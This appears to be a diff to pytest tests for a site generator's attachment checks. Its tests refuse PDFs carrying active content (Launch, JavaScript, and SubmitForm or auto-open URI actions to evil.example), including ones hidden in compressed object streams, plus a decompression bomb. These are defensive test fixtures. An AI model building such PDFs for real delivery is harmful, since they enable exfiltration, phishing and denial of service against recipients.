@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import struct
 import sys
+import unicodedata
 import zlib
 from io import BytesIO
 from pathlib import Path
+from urllib.parse import unquote
 
 import pytest
 from hypothesis import given, settings
@@ -21,7 +24,7 @@ from generator.attachments import pictures as picture_room
 from generator.attachments.kinds import KINDS, kind_of
 from generator.build import build, inspect, read, render
 from generator.cli import main
-from generator.models.links import PUBLISHED_TYPES
+from generator.models.links import PUBLISHED_TYPES, targets
 from generator.problems import Grade
 from generator.snapshot import take
 from tests.builders import REPOSITORY, at, write_estate
@@ -440,6 +443,9 @@ def test_a_picture_that_decodes_for_hours_is_refused(prepare):
     )
 
 
+NEXT = b"\nendobj\n7 0 obj\n"
+
+
 @pytest.mark.parametrize(
     "active",
     [
@@ -449,10 +455,56 @@ def test_a_picture_that_decodes_for_hours_is_refused(prepare):
         b"<</S/Launch/F(a.exe)>>",
         b"<< /Type /EmbeddedFile /Length 1 >>",
         b"<< /Names << /EmbeddedFiles 7 0 R >> >>",
+        b"<< /S /SubmitForm /F (https://evil.example/) >>",
+        b"<< /S /ImportData /F (a.fdf) >>",
+        b"<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>",
+        b"<< /S /GoToE /T << >> >>",
+        b"<< /Type /Annot /Subtype /RichMedia >>",
+        b"<< /AcroForm << /XFA [(a) 5 0 R] >> >>",
+        b"<< /OpenAction << /S /URI /URI (https://evil.example/) >> >>",
+        b"<< /OpenAction 7 0 R >>\nendobj\n7 0 obj\n<< /S /URI /URI (x) >>",
+        b"<< /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>",
     ],
 )
 def test_a_pdf_that_can_run_or_unpack_something_is_refused(active, prepare):
     assert prepare("a.pdf", pdf(b"1 0 obj", active, b"endobj")) == "attachment.pdf_active"
+    assert prepare("a.pdf", pdf(packed(*active.split(NEXT)))) == "attachment.pdf_active"
+
+
+def packed(*objects, way=b"/FlateDecode", extra=b"", predictor=False):
+    """Objects in a compressed object stream (ISO 32000 7.5.7)."""
+    heads, body = b"", b""
+    for number, one in enumerate(objects, 6):
+        heads += b"%d %d " % (number, len(body))
+        body += one + b"\n"
+    data = heads + body
+    if predictor:
+        data = b"".join(b"\0" + data[at : at + 8].ljust(8) for at in range(0, len(data), 8))
+        extra += b"/DecodeParms << /Predictor 12 /Columns 8 >>"
+    data = zlib.compress(data)
+    head = b"<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d %s >>"
+    head %= (len(objects), len(heads), way, len(data), extra)
+    return b"3 0 obj\n" + head + b"\nstream\n" + data + b"\nendstream\nendobj"
+
+
+def test_what_is_active_is_found_behind_the_predictor_of_a_stream_too(prepare):
+    made = packed(b"<< /S /JavaScript /JS (app.alert) >>", predictor=True)
+    assert prepare("a.pdf", pdf(made)) == "attachment.pdf_active"
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        packed(b"<< >>", way=b"/LZWDecode"),
+        packed(b"<< >>", way=b"[/ASCII85Decode /FlateDecode]"),
+        packed(b"<< >>").replace(b"x\x9c", b"xx"),
+        packed(b"<< >>") + b"\n9 0 obj\n<< /Encrypt 4 0 R >>\nendobj",
+        packed(b"<< >>" + b" " * 70_000_000),
+    ],
+    ids=["another filter", "two filters", "damaged", "encrypted", "a bomb"],
+)
+def test_a_pdf_one_cannot_look_into_is_refused(hidden, prepare):
+    assert prepare("a.pdf", pdf(hidden)) == "attachment.pdf_closed"
 
 
 @pytest.mark.parametrize(
@@ -461,6 +513,11 @@ def test_a_pdf_that_can_run_or_unpack_something_is_refused(active, prepare):
         b"<< /Length 9 >>\nstream\nxx/JS (yy\nendstream",  # by chance among compressed bytes
         b"<< /JSON 1 /LaunchPad 2 >>",
         b"(a text about JavaScript)",
+        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example/) >> >>",
+        b"<< /OpenAction [3 0 R /Fit] >>",
+        b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",
+        packed(b"<< /Type /Page >>", b"<< /A << /S /URI /URI (https://a.example/) >> >>"),
+        packed(b"<< /Type /Page >>", predictor=True),
     ],
 )
 def test_a_harmless_pdf_is_published_byte_for_byte(harmless, prepare):
@@ -594,6 +651,38 @@ def test_withdrawing_takes_the_picture_down_in_the_same_run(tmp_path, capsys):
     main(["withdraw", NOTICE, str(folder), "--reason", "发错", *when])
     capsys.readouterr()
     assert [path for path in files_of(folder / "site") if "plan" in path] == []
+
+
+ODD_NAMES = ("施工 图(1).pdf", "a#b.pdf", "50%.pdf", "100%25.pdf", "R&D.pdf", "caf\u00e9.pdf")
+
+
+@pytest.mark.parametrize("form", ["NFC", "NFD"])
+def test_a_file_of_any_name_is_found_and_its_address_is_spelt_as_addresses_are(tmp_path, form):
+    names = ODD_NAMES if os.name == "nt" else (*ODD_NAMES, "a?b.pdf")
+    files = {f"notices/a/{unicodedata.normalize(form, name)}": pdf() for name in names}
+    attached = "".join(f'  - "{name}"\n' for name in names)
+    text = "\n".join(f"[见{number}](<{name}>)" for number, name in enumerate(names))
+    notice = f"---\n标题: 二栋停水\n类别: 停水\n张贴至: 2026-11-25\n附件:\n{attached}---\n{text}\n"
+    folder = write_estate(tmp_path, {"notices/a.md": notice})
+    for path, data in files.items():
+        (folder / "content" / path).parent.mkdir(exist_ok=True)
+        (folder / "content" / path).write_bytes(data)
+    done = build(folder, folder / "site", read(folder), at("2026-11-20T12:00"))
+    assert (done.problems, done.published.left_out) == ((), ())
+    page = (folder / "site/notices/a/index.html").read_text("utf-8")
+    shown = {unquote(address) for address in re.findall(r'href="\.\./\.\./(files/[^"]+)"', page)}
+    assert page.count('href="../../files/') == 2 * len(names)
+    assert shown == {path for path in done.published.put if path.startswith("files/")}
+    assert len(shown) == len(names)
+    data = json.loads((folder / "site/data/notices.json").read_text("utf-8"))
+    (listed,) = (one["attachments"] for one in data["notices"] if one["id"] == "a")
+    assert all(re.fullmatch(r"https://[\w./%~-]+", url, re.ASCII) for url in listed)
+    assert {unquote(url.partition(".example/")[2]) for url in listed} == shown
+
+
+def test_a_name_with_spaces_or_brackets_needs_no_brackets_around_it():
+    text = '[图](现场 图(1).pdf) [标题](a b.pdf "说明") [远](https://x.example/a_(b))'
+    assert targets(text) == ("现场 图(1).pdf", "a b.pdf", "https://x.example/a_(b)")
 
 
 def test_a_file_nobody_refers_to_is_not_published(tmp_path):
